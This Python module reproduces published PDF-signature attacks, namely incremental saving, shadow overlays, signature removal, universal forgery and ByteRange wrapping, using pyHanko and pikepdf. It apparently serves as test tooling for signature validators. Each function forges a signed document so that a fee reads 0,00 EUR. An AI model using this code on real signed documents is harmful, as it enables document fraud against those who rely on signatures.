"""Published PDF-signature attacks, built as an attacker would: pyHanko's incremental writer
and pikepdf on a genuinely signed document (Mladenov et al., "1 Trillion Dollar Refund",
CCS 2019: incremental saving, universal signature forgery, signature wrapping; Mainka et
al., "Shadow Attacks", NDSS 2021: hide, replace, hide-and-replace; "sneaky signatures")."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

# "0,00 EUR" painted in white-boxed black text with a standard font: what the forger shows.
COVER = (b"\nq 1 1 1 rg 60 560 480 120 re f Q "
         b"BT /FAtk 24 Tf 0 0 0 rg 70 600 Td (Gebuehr 0,00 EUR) Tj ET\n")


def revision(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """``data`` plus one incremental revision made by ``change``."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]
    return out.getvalue()


def _font(writer: IncrementalPdfFileWriter) -> Any:
    return writer.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica")}))


def _appearance(writer: IncrementalPdfFileWriter, w: int, h: int) -> Any:
    stream = generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, w, h)]),
        pdf_name("/Resources"): generic.DictionaryObject({
            pdf_name("/Font"): generic.DictionaryObject({pdf_name("/FAtk"): _font(writer)})}),
    }, stream_data=b"q 1 1 1 rg 0 0 %d %d re f Q BT /FAtk 20 Tf 0 0 0 rg 5 10 Td "
                   b"(Gebuehr 0,00 EUR) Tj ET" % (w, h))
    return writer.add_object(stream)


def _first_content(writer: IncrementalPdfFileWriter) -> tuple[Any, Any]:
    page_ref, _res = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    contents = page.raw_get("/Contents")
    if isinstance(contents.get_object(), generic.ArrayObject):
        contents = contents.get_object().raw_get(0)
    return page_ref, contents


def content_redefinition(data: bytes) -> bytes:
    """Incremental saving attack: page 1's content stream redefined under its own number."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, contents = _first_content(writer)
        old = contents.get_object().data
        page = page_ref.get_object()
        fonts = page["/Resources"].get_object().setdefault(pdf_name("/Font"),
                                                           generic.DictionaryObject())
        fonts.get_object()[pdf_name("/FAtk")] = _font(writer)
        writer.update_container(fonts.get_object())
        writer.mark_update(page_ref)
        writer.objects[(contents.generation, contents.idnum)] = generic.StreamObject(
            stream_data=old + COVER)
    return revision(data, change)


def overlay_annotation(data: bytes) -> bytes:
    """A FreeText annotation with an opaque appearance over the fee."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _c = _first_content(writer)
        page = page_ref.get_object()
        annot = writer.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v)
                                                    for v in (60, 560, 540, 680)]),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/DA"): generic.pdf_string("/Helv 20 Tf 0 g"),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(writer, 480,
                                                                                    120)}),
        }))
        annots = page.get("/Annots")
        if annots is None:
            page[pdf_name("/Annots")] = generic.ArrayObject([annot])
        else:
            annots.get_object().append(annot)
            writer.update_container(annots.get_object())
        writer.mark_update(page_ref)
    return revision(data, change)


def replaced_embedded_file(data: bytes) -> bytes:
    """The attached application.json redefined: the fee in the machine-readable data is 0."""
    import pikepdf

    with pikepdf.open(io.BytesIO(data)) as pdf:
        stream = pdf.attachments["application.json"].obj.EF.F
        number = stream.objgen[0]
        text = stream.read_bytes().decode()
    forged = re.sub(r'"amount_cents": \d+', '"amount_cents": 0', text).encode()

    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.objects[(0, number)] = generic.StreamObject({
            pdf_name("/Type"): pdf_name("/EmbeddedFile"),
            pdf_name("/Subtype"): pdf_name("/application#2Fjson")}, stream_data=forged)
    return revision(data, change)


def _sig_field(writer: IncrementalPdfFileWriter, name: str) -> Any:
    from pyhanko.sign.fields import enumerate_sig_fields

    for field_name, _value, ref in enumerate_sig_fields(writer, filled_status=None):
        if field_name == name:
            return ref
    raise KeyError(name)


def removed_signature(data: bytes, name: str = "Unterschrift") -> bytes:
    """The signature field taken out of the form and its widget off the page."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = _sig_field(writer, name)
        form = writer.root["/AcroForm"]
        fields = form["/Fields"]
        keep = generic.ArrayObject([f for f in fields if f.idnum != ref.idnum])
        form[pdf_name("/Fields")] = keep
        writer.update_container(form)
        for index in range(int(writer.root["/Pages"]["/Count"])):
            page_ref, _r = writer.find_page_for_modification(index)
            page = page_ref.get_object()
            annots = page.get("/Annots")
            if annots is not None and any(a.idnum == ref.idnum for a in annots):
                page[pdf_name("/Annots")] = generic.ArrayObject(
                    [a for a in annots if a.idnum != ref.idnum])
                writer.mark_update(page_ref)
    return revision(data, change)


def sneaky_field(data: bytes, name: str = "Bestaetigung") -> bytes:
    """A new, empty signature field whose appearance paints "0,00 EUR" over page 1."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _c = _first_content(writer)
        page = page_ref.get_object()
        widget = writer.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): generic.pdf_string(name),
            pdf_name("/F"): generic.NumberObject(4), pdf_name("/P"): page_ref,
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v)
                                                    for v in (60, 560, 540, 680)]),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(writer, 480,
                                                                                    120)}),
        }))
        form = writer.root["/AcroForm"]
        form["/Fields"].append(widget)
        writer.update_container(form)
        annots = page.get("/Annots")
        if annots is None:
            page[pdf_name("/Annots")] = generic.ArrayObject([widget])
        else:
            annots.get_object().append(widget)
            writer.update_container(annots.get_object())
        writer.mark_update(page_ref)
    return revision(data, change)


def swap_signature_dict(data: bytes, name: str, edit: Callable[[Any], None]) -> bytes:
    """Universal signature forgery: the field's signature dictionary replaced by an edited
    copy in a new revision (``edit`` removes or empties /Contents, /ByteRange, …)."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        field = _sig_field(writer, name).get_object()
        original = field["/V"]
        copy = generic.DictionaryObject({k: v for k, v in original.items()})
        edit(copy)
        field[pdf_name("/V")] = writer.add_object(copy)
        writer.update_container(field)
    return revision(data, change)


def wrapped_byte_range(data: bytes, name: str = "Unterschrift") -> bytes:
    """Signature wrapping: the signed bytes kept, the /ByteRange re-pointed so the signed
    range no longer reaches the end of its revision (the forged rest is not covered)."""
    def edit(sig: Any) -> None:
        start, length = int(sig["/ByteRange"][2]), int(sig["/ByteRange"][3])
        sig[pdf_name("/ByteRange")] = generic.ArrayObject([
            generic.NumberObject(0), sig["/ByteRange"][1], generic.NumberObject(start),
            generic.NumberObject(length // 2)])
    return swap_signature_dict(data, name, edit)
